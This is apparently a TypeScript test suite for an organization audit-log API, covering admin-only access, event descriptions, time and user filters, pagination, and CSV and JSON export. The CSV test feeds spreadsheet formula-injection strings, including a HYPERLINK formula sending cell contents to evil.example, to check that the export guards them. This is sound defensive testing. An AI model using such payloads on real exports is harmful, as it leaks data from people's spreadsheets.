import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { components } from '../src/generated/openapi.js';
import { timeOrderedId } from '../src/domain/ids.js';
import type { Organization } from '../src/domain/records.js';
import { databaseKinds } from './support/databases.js';
import { addMember, call, expectError, makeOrg, makePerson, makeTeam, makeToken, startHarness, uniqueName, type Harness } from './support/harness.js';

type WireEvent = components['schemas']['AuditLogEvent'];

/** RFC 4180 parser: quoted fields, doubled quotes, CRLF records. Strict enough to catch a broken writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        cell += c;
        i++;
      }
    } else if (c === '"') {
      assert.equal(cell, '', 'a quote may only open a field');
      quoted = true;
      i++;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 2;
    } else {
      assert.ok(c !== '\n' && c !== '\r', 'a bare line break outside quotes');
      cell += c;
      i++;
    }
  }
  assert.equal(quoted, false, 'unterminated quote');
  assert.ok(cell === '' && row.length === 0, 'the last record ends with CRLF');
  return rows;
}

const HEADER = ['timestamp', 'event', 'description', 'user', 'token_id', 'token_name', 'target', 'source_ip', 'user_agent', 'request_id'];
const iso = (sec: number) => new Date(sec * 1000).toISOString().replace('.000Z', 'Z');

for (const kind of databaseKinds()) {
  describe(`audit log API (${kind})`, () => {
    let h: Harness;
    before(async () => {
      h = await startHarness(kind);
    });
    after(async () => h.close());

    async function list(org: string, token: string, query = ''): Promise<{ auditLogEvents: WireEvent[]; continuationToken?: string }> {
      const res = await call(h, 'GET', `/api/orgs/${org}/auditlogs${query ? `?${query}` : ''}`, { token });
      assert.equal(res.statusCode, 200, res.body);
      return res.json();
    }

    /** Every event through the list endpoint, page by page. */
    async function listAll(org: string, token: string, query = '', pageSize = 1000): Promise<{ events: WireEvent[]; pages: number }> {
      const events: WireEvent[] = [];
      let cursor: string | undefined;
      let pages = 0;
      do {
        const q = [query, `maxResults=${pageSize}`, cursor ? `continuationToken=${encodeURIComponent(cursor)}` : ''].filter(Boolean).join('&');
        const body = await list(org, token, q);
        assert.ok(body.auditLogEvents.length <= pageSize);
        events.push(...body.auditLogEvents);
        cursor = body.continuationToken;
        pages++;
      } while (cursor);
      return { events, pages };
    }

    /** An organization with an admin (alice), a member (bob), a team, and tokens of each kind. */
    async function world() {
      const alice = await makePerson(h);
      const bob = await makePerson(h);
      const outsider = await makePerson(h);
      const org = await makeOrg(h, alice.user);
      await addMember(h, org, bob.user, 'member');
      const team = await makeTeam(h, org, 'platform');
      const adminOrgToken = await makeToken(h, alice.principal, { type: 'organization', org: org.name }, { name: 'admin-ot', admin: true });
      const orgToken = await makeToken(h, alice.principal, { type: 'organization', org: org.name }, { name: 'plain-ot' });
      const teamToken = await makeToken(h, alice.principal, { type: 'team', org: org.name, team: team.name }, { name: 'team-t' });
      return { alice, bob, outsider, org, team, adminOrgToken, orgToken, teamToken };
    }

    it('is for organization admins: a person or an admin organization token; others 403, outsiders 404', async () => {
      const w = await world();
      for (const path of ['auditlogs', 'auditlogs/export', 'auditlogs/export?format=json']) {
        const url = `/api/orgs/${w.org.name}/${path}`;
        assert.equal((await call(h, 'GET', url, { token: w.alice.token })).statusCode, 200, url);
        assert.equal((await call(h, 'GET', url, { token: w.adminOrgToken.value })).statusCode, 200, url);
        expectError(await call(h, 'GET', url, { token: w.bob.token }), 403, 'forbidden');
        expectError(await call(h, 'GET', url, { token: w.orgToken.value }), 403, 'forbidden');
        expectError(await call(h, 'GET', url, { token: w.teamToken.value }), 403, 'forbidden');
        expectError(await call(h, 'GET', url, { token: w.outsider.token }), 404, 'org_not_found');
        expectError(await call(h, 'GET', `/api/orgs/${uniqueName('nope')}/${path}`, { token: w.alice.token }), 404, 'org_not_found');
        expectError(await call(h, 'GET', url), 401, 'token_missing');
      }
      // another organization's admin token cannot read this one
      const other = await makeOrg(h, w.outsider.user);
      const otherToken = await makeToken(h, w.outsider.principal, { type: 'organization', org: other.name }, { name: 'x', admin: true });
      expectError(await call(h, 'GET', `/api/orgs/${w.org.name}/auditlogs`, { token: otherToken.value }), 404, 'org_not_found');
    });

    it('describes token, member and refused-credential events with their actor, token and target', async () => {
      const w = await world();
      const ua = { 'user-agent': 'audit-shape/1.0' };
      h.clock.advance(1000);
      // alice invites carol; carol accepts and so becomes a member
      const carol = await makePerson(h);
      const addedAt = h.clock.nowSec();
      const invited = await call(h, 'PUT', `/api/orgs/${w.org.name}/members/${carol.user.login}`, { token: w.alice.token, body: {}, headers: ua });
      assert.equal(invited.statusCode, 202, invited.body);
      const added = await call(h, 'POST', `/api/user/invitations/${invited.json().invitation.id}/accept`, { token: carol.token, headers: ua });
      assert.equal(added.statusCode, 200, added.body);
      // alice creates an expiring admin organization token
      h.clock.advance(1000);
      const expires = h.clock.nowSec() + 86400;
      const created = await call(h, 'POST', `/api/orgs/${w.org.name}/tokens`, { token: w.alice.token, body: { name: 'deploy', expires, admin: true }, headers: ua });
      assert.equal(created.statusCode, 200, created.body);
      const deployId = created.json().id as string;
      const deployValue = created.json().tokenValue as string;
      // the admin organization token creates a team token expiring with it (Z04: never later)
      h.clock.advance(1000);
      const ci = await call(h, 'POST', `/api/orgs/${w.org.name}/teams/platform/tokens`, { token: deployValue, body: { name: 'ci', expires }, headers: ua });
      assert.equal(ci.statusCode, 200, ci.body);
      const ciId = ci.json().id as string;
      const ciValue = ci.json().tokenValue as string;
      // alice deletes it, then someone tries it
      h.clock.advance(1000);
      assert.equal((await call(h, 'DELETE', `/api/orgs/${w.org.name}/teams/platform/tokens/${ciId}`, { token: w.alice.token, headers: ua })).statusCode, 204);
      h.clock.advance(1000);
      const refused = expectError(await call(h, 'GET', '/api/user', { token: ciValue, headers: { 'user-agent': 'old-pipeline/2' } }), 401, 'token_revoked');
      // an organization token expires and is used
      h.clock.advance(1000);
      const shortExpiry = h.clock.nowSec() + 60;
      const short = await makeToken(h, w.alice.principal, { type: 'organization', org: w.org.name }, { name: 'short', expires: shortExpiry });
      h.clock.advance(61_000);
      const expiredUse = expectError(await call(h, 'GET', '/api/user', { token: short.value }), 401, 'token_expired');

      const events = (await list(w.org.name, w.alice.token)).auditLogEvents;
      const byEvent = (name: string) => events.filter((e) => e.event === name);
      const alice = { name: w.alice.user.name || w.alice.user.login, githubLogin: w.alice.user.login };
      const carolActor = { name: carol.user.name || carol.user.login, githubLogin: carol.user.login };

      const memberInvited = byEvent('member_invited').find((e) => e.target === `invitation ${carol.user.login}`)!;
      assert.equal(memberInvited.description, `${w.alice.user.login} invited ${carol.user.login} to the organization as member`);
      assert.deepEqual(memberInvited.user, alice);
      assert.equal(memberInvited.requestId, invited.headers['x-request-id']);

      const memberAdded = byEvent('member_added').find((e) => e.target === `user ${carol.user.login}`)!;
      assert.deepEqual(
        { ...memberAdded, id: typeof memberAdded.id, requestId: typeof memberAdded.requestId },
        {
          id: 'string',
          timestamp: addedAt,
          event: 'member_added',
          description: `${carol.user.login} added ${carol.user.login} to the organization as member`,
          sourceIP: '127.0.0.1',
          userAgent: 'audit-shape/1.0',
          requestId: 'string',
          user: carolActor,
          tokenID: memberAdded.tokenID,
          target: `user ${carol.user.login}`,
        },
      );
      assert.equal(memberAdded.requestId, added.headers['x-request-id']);
      assert.ok(memberAdded.tokenID, 'the personal token carol used');
      assert.equal(memberAdded.tokenName, undefined, 'personal tokens have no name');

      const deployCreated = byEvent('access_token_created').find((e) => e.target === 'organization_token deploy')!;
      assert.equal(deployCreated.description, `${w.alice.user.login} created admin organization token deploy, expiring ${iso(expires)}`);
      assert.deepEqual(deployCreated.user, alice);
      assert.equal(deployCreated.requestId, created.headers['x-request-id']);

      const ciCreated = byEvent('access_token_created').find((e) => e.target === 'team_token ci')!;
      assert.equal(ciCreated.description, `token deploy created team token ci of team platform, expiring ${iso(expires)}`);
      assert.deepEqual(ciCreated.user, { name: 'token deploy', githubLogin: '' });
      assert.equal(ciCreated.tokenID, deployId);
      assert.equal(ciCreated.tokenName, 'deploy');

      const ciDeleted = byEvent('access_token_deleted').find((e) => e.target === 'team_token ci')!;
      assert.equal(ciDeleted.description, `${w.alice.user.login} deleted team token ci of team platform`);
      assert.deepEqual(ciDeleted.user, alice);

      const [revokedUse] = byEvent('access_token_revoked_used');
      assert.ok(revokedUse);
      assert.equal(revokedUse.description, 'team token ci of team platform was used after it was revoked');
      assert.deepEqual(revokedUse.user, { name: 'token ci', githubLogin: '' });
      assert.equal(revokedUse.tokenID, ciId);
      assert.equal(revokedUse.tokenName, 'ci');
      assert.equal(revokedUse.target, 'team_token ci');
      assert.equal(revokedUse.userAgent, 'old-pipeline/2');
      assert.equal(revokedUse.requestId, refused.requestId);

      const [expiredUsed] = byEvent('access_token_expired_used');
      assert.ok(expiredUsed);
      assert.equal(expiredUsed.description, `organization token short was used after it expired at ${iso(shortExpiry)}`);
      assert.deepEqual(expiredUsed.user, { name: 'token short', githubLogin: '' });
      assert.equal(expiredUsed.tokenID, short.id);
      assert.equal(expiredUsed.requestId, expiredUse.requestId);

      // events written by the operator (the fixtures) and the organization's own creation
      const orgCreated = byEvent('organization_created')[0]!;
      assert.equal(orgCreated.description, `system created organization ${w.org.name}`);
      assert.deepEqual(orgCreated.user, { name: 'system', githubLogin: '' });
      assert.equal(orgCreated.target, `organization ${w.org.name}`);
      assert.equal(orgCreated.sourceIP, '');
      assert.ok(byEvent('team_created').some((e) => e.description === 'system created team platform'));
      assert.ok(byEvent('member_added').some((e) => e.description === `system added ${w.bob.user.login} to the organization as member`));

      // newest first
      const times = events.map((e) => e.timestamp);
      assert.deepEqual(times, [...times].sort((a, b) => b - a));
      assert.equal(events[0]!.event, 'access_token_expired_used');
      // no secret or hash of one anywhere in the log
      for (const secret of [deployValue, ciValue, short.value]) assert.ok(!JSON.stringify(events).includes(secret));
    });

    it('describes team deletion and role changes', async () => {
      const w = await world();
      h.clock.advance(10);
      assert.equal((await call(h, 'PUT', `/api/orgs/${w.org.name}/members/${w.bob.user.login}`, { token: w.alice.token, body: { role: 'admin' } })).statusCode, 200);
      h.clock.advance(10);
      assert.equal((await call(h, 'PUT', `/api/orgs/${w.org.name}/teams/platform/members/${w.bob.user.login}`, { token: w.alice.token, body: { role: 'maintainer' } })).statusCode, 200);
      h.clock.advance(10);
      assert.equal((await call(h, 'DELETE', `/api/orgs/${w.org.name}/teams/platform`, { token: w.alice.token })).statusCode, 204);
      h.clock.advance(10);
      assert.equal((await call(h, 'DELETE', `/api/orgs/${w.org.name}/members/${w.bob.user.login}`, { token: w.alice.token })).statusCode, 204);
      const a = w.alice.user.login;
      const b = w.bob.user.login;
      const descriptions = (await list(w.org.name, w.alice.token, 'maxResults=4')).auditLogEvents.map((e) => e.description);
      assert.deepEqual(descriptions, [
        `${a} removed ${b} from the organization`,
        `${a} deleted team platform, revoking its token`,
        `${a} added ${b} to team platform as maintainer`,
        `${a} changed the role of ${b} from member to admin`,
      ]);
    });

    it('filters by time (inclusive start, exclusive end), user and event', async () => {
      const w = await world();
      const t0 = h.clock.nowSec() + 100;
      h.clock.set(t0 * 1000);
      const mk = async (name: string) => {
        const res = await call(h, 'POST', `/api/orgs/${w.org.name}/tokens`, { token: w.alice.token, body: { name } });
        assert.equal(res.statusCode, 200, res.body);
        return res.json().id as string;
      };
      await mk('f-at-t0');
      h.clock.set(t0 * 1000 + 999);
      await mk('f-end-of-t0');
      h.clock.set((t0 + 1) * 1000);
      await mk('f-at-t1');
      h.clock.set((t0 + 2) * 1000);
      await call(h, 'PUT', `/api/orgs/${w.org.name}/members/${w.outsider.user.login}`, { token: w.alice.token, body: {} });

      const names = (body: { auditLogEvents: WireEvent[] }) => body.auditLogEvents.map((e) => e.target);
      assert.deepEqual(names(await list(w.org.name, w.alice.token, `startTime=${t0}&endTime=${t0 + 1}`)), ['organization_token f-end-of-t0', 'organization_token f-at-t0']);
      assert.deepEqual(names(await list(w.org.name, w.alice.token, `startTime=${t0 + 1}`)), [`invitation ${w.outsider.user.login}`, 'organization_token f-at-t1']);
      assert.deepEqual(names(await list(w.org.name, w.alice.token, `startTime=${t0}&endTime=${t0 + 2}&event=access_token_created`)), [
        'organization_token f-at-t1',
        'organization_token f-end-of-t0',
        'organization_token f-at-t0',
      ]);
      const before = (await list(w.org.name, w.alice.token, `endTime=${t0}`)).auditLogEvents;
      assert.ok(before.length > 0 && before.every((e) => e.timestamp < t0));

      // the fixtures' three tokens were issued by alice too
      const byAlice = (await list(w.org.name, w.alice.token, `user=${w.alice.user.login}`)).auditLogEvents;
      assert.equal(byAlice.length, 7);
      assert.ok(byAlice.every((e) => e.user.githubLogin === w.alice.user.login));
      assert.equal((await list(w.org.name, w.alice.token, `user=${w.alice.user.login}&startTime=${t0}`)).auditLogEvents.length, 4);
      // organization_created, member_added twice, team_created: written by the operator
      const bySystem = (await list(w.org.name, w.alice.token, 'user=system')).auditLogEvents;
      assert.deepEqual(bySystem.map((e) => e.event).sort(), ['member_added', 'member_added', 'organization_created', 'team_created']);
      assert.ok(bySystem.every((e) => e.user.name === 'system'));
      assert.deepEqual((await list(w.org.name, w.alice.token, `user=${w.bob.user.login}`)).auditLogEvents, []);

      const memberAdds = (await list(w.org.name, w.alice.token, 'event=member_added')).auditLogEvents;
      assert.deepEqual(memberAdds.map((e) => e.target), [`user ${w.bob.user.login}`, `user ${w.alice.user.login}`]);
      assert.deepEqual((await list(w.org.name, w.alice.token, `event=member_invited&user=${w.alice.user.login}`)).auditLogEvents.length, 1);
      // empty filters mean no filter, as an empty form field does
      assert.equal((await list(w.org.name, w.alice.token, 'user=&event=')).auditLogEvents.length, (await list(w.org.name, w.alice.token)).auditLogEvents.length);
      // events of other organizations never show
      const other = await makeOrg(h, w.alice.user);
      assert.ok((await list(w.org.name, w.alice.token)).auditLogEvents.every((e) => e.target !== `organization ${other.name}`));
    });

    it('pages newest first with no duplicates or gaps, also within one millisecond', async () => {
      const w = await world();
      // 45 events, many sharing a millisecond: the id (UUIDv7) breaks the ties.
      await h.deps.store.transaction(async (tx) => {
        for (let i = 0; i < 45; i++) {
          const at = h.clock.now() + Math.floor(i / 10);
          await tx.insertAudit(fakeEvent(w.org, at, i));
        }
      });
      const all = (await list(w.org.name, w.alice.token, 'maxResults=1000')).auditLogEvents;
      for (const size of [1, 7, 10, 45]) {
        const { events, pages } = await listAll(w.org.name, w.alice.token, '', size);
        assert.deepEqual(events.map((e) => e.id), all.map((e) => e.id), `page size ${size}`);
        assert.equal(pages, Math.ceil(all.length / size));
        assert.equal(new Set(events.map((e) => e.id)).size, events.length);
      }
      const ids = all.map((e) => e.id);
      assert.deepEqual(ids, [...ids].sort().reverse(), 'UUIDv7 ids order the events');
      // paging with a filter
      const filtered = await listAll(w.org.name, w.alice.token, 'event=custom_event', 4);
      assert.equal(filtered.events.length, 45);
      assert.deepEqual(filtered.events.map((e) => e.requestId), Array.from({ length: 45 }, (_, i) => `req-${44 - i}`));
      assert.equal(filtered.events[0]!.description, `${w.alice.user.login} performed custom_event on user x44`, 'an unknown action still reads as a sentence');
      // the last page carries no continuation token, even when it is full
      const exact = await list(w.org.name, w.alice.token, `event=custom_event&maxResults=45`);
      assert.equal(exact.continuationToken, undefined);
      // events written while paging do not shift the pages still to come
      const first = await list(w.org.name, w.alice.token, 'event=custom_event&maxResults=20');
      h.clock.advance(5000);
      await h.deps.store.insertAudit(fakeEvent(w.org, h.clock.now(), 99));
      const second = await list(w.org.name, w.alice.token, `event=custom_event&maxResults=20&continuationToken=${encodeURIComponent(first.continuationToken!)}`);
      assert.deepEqual(second.auditLogEvents.map((e) => e.requestId), Array.from({ length: 20 }, (_, i) => `req-${24 - i}`));

      function fakeEvent(org: Organization, at: number, i: number) {
        return {
          id: timeOrderedId(at),
          occurredAt: at,
          orgId: org.id,
          action: 'custom_event',
          actorUserId: w.alice.user.id,
          actorLogin: w.alice.user.login,
          tokenId: null,
          tokenName: null,
          targetType: 'user',
          targetId: null,
          targetName: `x${i}`,
          sourceIp: '10.0.0.1',
          userAgent: 'ua',
          requestId: `req-${i}`,
          details: null,
        };
      }
    });

    it('refuses bad parameters with 400 in the REST error shape', async () => {
      const w = await world();
      const base = `/api/orgs/${w.org.name}/auditlogs`;
      for (const q of ['maxResults=0', 'maxResults=1001', 'maxResults=abc', 'maxResults=2.5']) {
        expectError(await call(h, 'GET', `${base}?${q}`, { token: w.alice.token }), 400, 'invalid_request');
      }
      for (const q of [
        'startTime=-1',
        'startTime=abc',
        'startTime=1.5',
        'endTime=99999999999999',
        'startTime=100&endTime=100',
        'startTime=200&endTime=100',
        'event=Bad-Event',
        'user=no%20spaces',
        `event=${'a'.repeat(65)}`,
      ]) {
        expectError(await call(h, 'GET', `${base}?${q}`, { token: w.alice.token }), 400, 'invalid_request');
        expectError(await call(h, 'GET', `${base}/export?${q}`, { token: w.alice.token }), 400, 'invalid_request');
      }
      for (const bad of ['garbage', Buffer.from('[1,2]').toString('base64url'), Buffer.from('{"a":1}').toString('base64url')]) {
        expectError(await call(h, 'GET', `${base}?continuationToken=${bad}`, { token: w.alice.token }), 400, 'continuation_token_invalid');
      }
      expectError(await call(h, 'GET', `${base}/export?format=xml`, { token: w.alice.token }), 400, 'invalid_request');
      // refusals come before any filter checks, so a non-admin learns nothing from a bad query
      expectError(await call(h, 'GET', `${base}?startTime=200&endTime=100`, { token: w.bob.token }), 403, 'forbidden');
    });

    it('exports CSV: header row, RFC 4180 quoting, formula-injection guard, every event', async () => {
      const w = await world();
      // a refused credential records the caller's User-Agent: outsiders choose that text
      await call(h, 'DELETE', `/api/orgs/${w.org.name}/tokens/${w.orgToken.id}`, { token: w.alice.token });
      const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', 'plain, with "quotes"'];
      for (const ua of hostile) {
        // A minute apart: repeated uses of one dead token share an audit row a minute (X05).
        h.clock.advance(60_000);
        expectError(await call(h, 'GET', '/api/user', { token: w.orgToken.value, headers: { 'user-agent': ua } }), 401, 'token_revoked');
      }
      // characters no HTTP header carries, written straight to the store
      const stored = ['\tTAB', '\rCR first', 'multi\r\nline, "quoted"'];
      for (const ua of stored) {
        h.clock.advance(1);
        await h.deps.store.insertAudit({
          id: timeOrderedId(h.clock.now()),
          occurredAt: h.clock.now(),
          orgId: w.org.id,
          action: 'odd_agent',
          actorUserId: null,
          actorLogin: 'system',
          tokenId: null,
          tokenName: null,
          targetType: null,
          targetId: null,
          targetName: null,
          sourceIp: null,
          userAgent: ua,
          requestId: null,
          details: null,
        });
      }

      const res = await call(h, 'GET', `/api/orgs/${w.org.name}/auditlogs/export`, { token: w.alice.token });
      assert.equal(res.statusCode, 200, res.body);
      assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
      const day = new Date(h.clock.now()).toISOString().slice(0, 10);
      assert.equal(res.headers['content-disposition'], `attachment; filename="${w.org.name}-audit-${day}.csv"`);
      assert.equal(res.headers['cache-control'], 'no-store');
      const rows = parseCsv(res.body);
      assert.deepEqual(rows[0], HEADER);
      const records = rows.slice(1);
      const listed = (await list(w.org.name, w.alice.token, 'maxResults=1000')).auditLogEvents;
      assert.equal(records.length, listed.length);
      records.forEach((r, i) => {
        const e = listed[i]!;
        assert.equal(r.length, HEADER.length);
        assert.deepEqual(r.slice(0, 8), [new Date(r[0]!).toISOString(), e.event, e.description, e.user.githubLogin || e.user.name, e.tokenID ?? '', e.tokenName ?? '', e.target ?? '', e.sourceIP]);
        assert.equal(Math.floor(Date.parse(r[0]!) / 1000), e.timestamp);
        assert.match(r[0]!, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
        assert.equal(r[9], e.requestId);
      });
      const guarded = (ua: string) => (/^[=+\-@\t\r]/.test(ua) ? `'${ua}` : ua);
      const agents = records.filter((r) => r[1] === 'access_token_revoked_used').map((r) => r[8]);
      assert.deepEqual(agents, [...hostile].reverse().map(guarded));
      const odd = records.filter((r) => r[1] === 'odd_agent');
      assert.deepEqual(odd.map((r) => r[8]), [...stored].reverse().map(guarded));
      assert.deepEqual(odd.map((r) => r[2]), ['system performed odd_agent', 'system performed odd_agent', 'system performed odd_agent']);
      for (const cell of records.flat()) assert.ok(!/^[=+\-@\t\r]/.test(cell), `a cell a spreadsheet would run: ${cell}`);
      // the filters apply to the export too
      const filtered = parseCsv((await call(h, 'GET', `/api/orgs/${w.org.name}/auditlogs/export?format=csv&event=access_token_revoked_used`, { token: w.alice.token })).body);
      assert.equal(filtered.length, 1 + hostile.length);
      // an empty result is just the header
      const none = await call(h, 'GET', `/api/orgs/${w.org.name}/auditlogs/export?event=nothing_here`, { token: w.alice.token });
      assert.deepEqual(parseCsv(none.body), [HEADER]);
    });

    it('exports JSON: the same objects as the list', async () => {
      const w = await world();
      const res = await call(h, 'GET', `/api/orgs/${w.org.name}/auditlogs/export?format=json`, { token: w.alice.token });
      assert.equal(res.statusCode, 200, res.body);
      assert.equal(res.headers['content-type'], 'application/json; charset=utf-8');
      assert.match(String(res.headers['content-disposition']), new RegExp(`^attachment; filename="${w.org.name}-audit-\\d{4}-\\d\\d-\\d\\d\\.json"$`));
      assert.deepEqual(res.json(), (await list(w.org.name, w.alice.token, 'maxResults=1000')).auditLogEvents);
      const none = await call(h, 'GET', `/api/orgs/${w.org.name}/auditlogs/export?format=json&event=nothing_here`, { token: w.alice.token });
      assert.deepEqual(none.json(), []);
    });

    it('streams a large export (2,000 events and more) with every row present', async () => {
      const alice = await makePerson(h);
      const org = await makeOrg(h, alice.user);
      const n = 2_345;
      const start = h.clock.now();
      await h.deps.store.transaction(async (tx) => {
        for (let i = 0; i < n; i++) {
          const at = start + i * 10;
          await tx.insertAudit({
            id: timeOrderedId(at),
            occurredAt: at,
            orgId: org.id,
            action: 'access_token_created',
            actorUserId: alice.user.id,
            actorLogin: alice.user.login,
            tokenId: null,
            tokenName: null,
            targetType: 'organization_token',
            targetId: `t${i}`,
            targetName: `bulk${i}`,
            sourceIp: '192.0.2.1',
            userAgent: i % 100 === 0 ? '=1+1' : 'bulk, loader "v1"',
            requestId: `bulk-${i}`,
            details: { expires: 0, admin: false },
          });
        }
      });
      const csv = await call(h, 'GET', `/api/orgs/${org.name}/auditlogs/export`, { token: alice.token });
      assert.equal(csv.statusCode, 200);
      assert.equal(csv.headers['content-length'], undefined, 'streamed, not buffered with a length');
      const records = parseCsv(csv.body).slice(1).filter((r) => r[9]!.startsWith('bulk-'));
      assert.equal(records.length, n);
      assert.deepEqual(records.map((r) => r[9]), Array.from({ length: n }, (_, i) => `bulk-${n - 1 - i}`));
      assert.ok(records.every((r) => r[2]!.startsWith(`${alice.user.login} created organization token bulk`)));

      const json = await call(h, 'GET', `/api/orgs/${org.name}/auditlogs/export?format=json`, { token: alice.token });
      const events = (json.json() as WireEvent[]).filter((e) => e.requestId.startsWith('bulk-'));
      assert.equal(events.length, n);
      assert.equal(new Set(events.map((e) => e.id)).size, n);
      // the list endpoint still caps a page at maxResults
      const page = await list(org.name, alice.token);
      assert.equal(page.auditLogEvents.length, 100);
      assert.ok(page.continuationToken);
      // and the export honours the filters on a large log
      const since = Math.floor(start / 1000) + 5;
      const tail = (await call(h, 'GET', `/api/orgs/${org.name}/auditlogs/export?format=json&startTime=${since}`, { token: alice.token })).json() as WireEvent[];
      assert.equal(tail.length, n - Math.ceil((since * 1000 - start) / 10));
      assert.ok(tail.every((e) => e.timestamp >= since));
    });
  });
}
